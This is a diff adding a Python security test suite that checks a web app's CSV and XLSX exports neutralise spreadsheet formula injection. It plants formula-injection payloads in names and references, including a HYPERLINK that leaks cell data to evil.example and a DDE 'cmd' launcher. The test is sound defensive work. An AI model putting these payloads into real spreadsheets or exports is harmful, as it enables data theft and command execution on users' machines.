@@ -1,0 +1,190 @@
+"""CSV and XLSX formula injection: text that a spreadsheet would run as a formula, in every download.
+
+Names, references, titles, file names and descriptions are given values starting with each of
+=, +, -, @, a tab and a carriage return (straight into the database where a form would trim them:
+the exporter must not rely on the forms). Every table of every export route is then downloaded
+in both formats: no text cell may start with one of those characters (numbers may be negative),
+no XLSX cell may be a formula, and each payload must be there, as text behind an apostrophe.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date, timedelta
+
+import pytest
+from openpyxl import load_workbook
+
+from improvement_tracker.extensions import db
+from improvement_tracker.models import Action, Finding, Force, Pillar, User
+from improvement_tracker.services import plans
+from tests import factories, files
+from tests.security.conftest import OWN, browser, methods, rules
+
+# What a spreadsheet may take as the start of a formula (OWASP, CSV injection). Stated here, not
+# imported from the exporter, so that dropping one there fails here.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+PAYLOADS = {
+    "force": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "owner_email": "-2+3+cmd@example.police.uk",
+    "manager": "\t=1+1",
+    "action_title": "\r=1+1",
+    "action_reference": "=A1",
+    "finding_reference": "+1+1",
+    "evidence_file": "=cmd.pdf",
+    "evidence_description": "-cmd",
+    "pillar": "=2*3",
+}
+
+# Every download of a list or table: (endpoint, URL parts). Dashboard tables are enumerated below.
+LISTS = [
+    ("plans.force_plan_export", {"code": OWN}),
+    ("plans.my_actions_export", {}),
+    ("plans.forces_export", {}),
+    ("evidence.awaiting_review_export", {"code": OWN}),
+    ("notifications.ledger_export", {"code": OWN}),
+]
+DASHBOARDS = {
+    "dashboards.national_export": ("/dashboards/national/export/{table}.{fmt}",
+                                   ["headline", "completion", "rag-by-pillar", "most-overdue", "trend",
+                                    "rag-disagreements"]),
+    "dashboards.pillar_export": ("/dashboards/pillars/P1/export/{table}.{fmt}", ["ranking"]),
+    "dashboards.force_export": (f"/forces/{OWN}/dashboard/export/{{table}}.{{fmt}}",
+                                ["headline", "status-by-pillar", "milestone-burn-up", "overdue-actions",
+                                 "evidence-awaiting-review", "owners-most-overdue", "replanned-actions",
+                                 "rag-disagreements"]),
+}
+# Downloads that hold no text a person typed (besides pillar names after their code).
+TEMPLATES = {"imports.template_xlsx": f"/forces/{OWN}/import/template.xlsx",
+             "imports.template_csv": f"/forces/{OWN}/import/template-actions.csv"}
+# Tables with no typed text at the start of a cell (numbers, dates, "P1 <pillar name>"): a payload
+# cannot be expected to show there as it does elsewhere.
+NO_TYPED_TEXT_FIRST = {"headline", "trend", "milestone-burn-up", "rag-by-pillar", "status-by-pillar"}
+
+
+def test_every_download_route_is_covered(app):
+    """A new CSV or XLSX route fails here until it is added above."""
+    downloads = {r.endpoint for r in rules(app) if "fmt" in r.arguments or r.rule.endswith((".csv", ".xlsx"))}
+    covered = {e for e, _ in LISTS} | set(DASHBOARDS) | set(TEMPLATES)
+    assert downloads == covered
+    assert all("GET" in methods(next(app.url_map.iter_rules(e))) for e in covered)
+
+
+def test_dashboard_tables_listed_here_are_all_the_tables(app, world):
+    from improvement_tracker.services import dashboards
+
+    today = date.today()
+    national = dashboards.national(db.session, today, dashboards.Filters())
+    force = dashboards.force(db.session, today, factories.force(OWN))
+    pillar = dashboards.pillar_view(db.session, today, factories.pillar("P1"), dashboards.Filters())
+    assert set(national.tables) == set(DASHBOARDS["dashboards.national_export"][1])
+    assert set(force.tables) == set(DASHBOARDS["dashboards.force_export"][1])
+    assert set(pillar.tables) == set(DASHBOARDS["dashboards.pillar_export"][1])
+
+
+@pytest.fixture
+def planted(app, world):
+    """The home force's plan, with a payload in every text a download shows."""
+    force = db.session.get(Force, world.own.force_id)
+    force.name = PAYLOADS["force"]
+    db.session.get(Pillar, factories.pillar("P1").id).name = PAYLOADS["pillar"]
+    owner = db.session.get(User, world.own.owner.id)
+    owner.name, owner.email = PAYLOADS["owner"], PAYLOADS["owner_email"]
+    db.session.get(User, world.own.pm.id).name = PAYLOADS["manager"]
+    action = db.session.get(Action, world.own.action_id)
+    action.title, action.reference = PAYLOADS["action_title"], PAYLOADS["action_reference"]
+    db.session.get(Finding, world.own.finding_id).reference = PAYLOADS["finding_reference"]
+    db.session.commit()
+    # Overdue, re-planned, and declared differently from its computed RAG: so it is in every table.
+    plans.change_due_date(db.session, action, date.today() - timedelta(days=5), "Slipped", actor=world.own.pm)
+    plans.declare_rag(db.session, action, "green", "We are fine", actor=world.own.pm)
+    db.session.commit()
+    factories.create_evidence(action, owner, files.pdf("Register"), PAYLOADS["evidence_file"],
+                              description=PAYLOADS["evidence_description"])
+    return world
+
+
+def _cells(response, fmt: str) -> list:
+    assert response.status_code == 200
+    assert response.headers["Content-Disposition"].startswith("attachment;")
+    if fmt == "csv":
+        return [cell for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig"))) for cell in row]
+    book = load_workbook(io.BytesIO(response.data))  # not read-only: formulas keep their data type
+    cells = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
+                value = cell.value
+                if isinstance(value, str) and "\n" in value[:2]:
+                    value = value.replace("\n", "\r", 1)  # XML reads a stored carriage return back as \n
+                cells.append(value)
+    return cells
+
+
+def _runnable(cells: list) -> list:
+    """Text cells a spreadsheet would run: starting with a formula character and not a plain number."""
+    bad = []
+    for value in cells:
+        if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+            try:
+                float(value)
+            except ValueError:
+                bad.append(value)
+    return bad
+
+
+def _downloads(app) -> list[tuple[str, str, bool]]:
+    """(who downloads, URL, whether a payload must be in it) for every table of every export."""
+    with app.test_request_context():
+        from flask import url_for
+
+        urls = []
+        for endpoint, parts in LISTS:
+            who = "action_owner" if endpoint == "plans.my_actions_export" else \
+                "admin" if endpoint == "plans.forces_export" else "programme_manager"
+            for fmt in ("csv", "xlsx"):
+                urls.append((who, url_for(endpoint, fmt=fmt, **parts), True))
+    for pattern, tables in DASHBOARDS.values():
+        for table in tables:
+            for fmt in ("csv", "xlsx"):
+                urls.append(("admin", pattern.format(table=table, fmt=fmt), table not in NO_TYPED_TEXT_FIRST))
+    return urls
+
+
+def test_every_export_neutralises_formulas(app, planted):
+    people = {role: browser(app, planted.user(role)) for role in ("admin", "programme_manager", "action_owner")}
+    wrong, checked = [], 0
+    for who, url, expect_payload in _downloads(app):
+        cells = _cells(people[who].client.get(url), url.rsplit(".", 1)[1])
+        checked += 1
+        if _runnable(cells):
+            wrong.append(f"{url}: {_runnable(cells)}")
+        neutralised = [c for c in cells if isinstance(c, str) and c.startswith("'") and c[1:2] in "=+-@\t\r"]
+        if expect_payload and not neutralised:
+            wrong.append(f"{url}: no payload reached this download, so it proves nothing")
+    assert wrong == [], "\n".join(wrong)
+    assert checked == 2 * (len(LISTS) + sum(len(t) for _, t in DASHBOARDS.values()))
+
+
+def test_each_payload_comes_out_as_the_same_text_behind_an_apostrophe(app, planted):
+    """What the person sees in the cell is what was typed, shown as text."""
+    pm = browser(app, planted.own.pm)
+    for fmt in ("csv", "xlsx"):
+        cells = set(_cells(pm.client.get(f"/forces/{OWN}/plan.{fmt}"), fmt))
+        cells |= set(_cells(pm.client.get(f"/forces/{OWN}/evidence.{fmt}"), fmt))
+        for name in ("owner", "owner_email", "action_title", "action_reference", "finding_reference",
+                     "evidence_file", "evidence_description"):
+            assert "'" + PAYLOADS[name] in cells, f"{name} in the {fmt} export"
+
+
+def test_import_templates_hold_no_formulas(app, planted):
+    """The template lists the pillars: a pillar name like a formula must stay text there too."""
+    pm = browser(app, planted.own.pm)
+    for url in TEMPLATES.values():
+        cells = _cells(pm.client.get(url), url.rsplit(".", 1)[1])
+        assert _runnable(cells) == [], url
+    text = " ".join(str(c) for c in _cells(pm.client.get(TEMPLATES["imports.template_xlsx"]), "xlsx") if c)
+    assert PAYLOADS["pillar"] in text
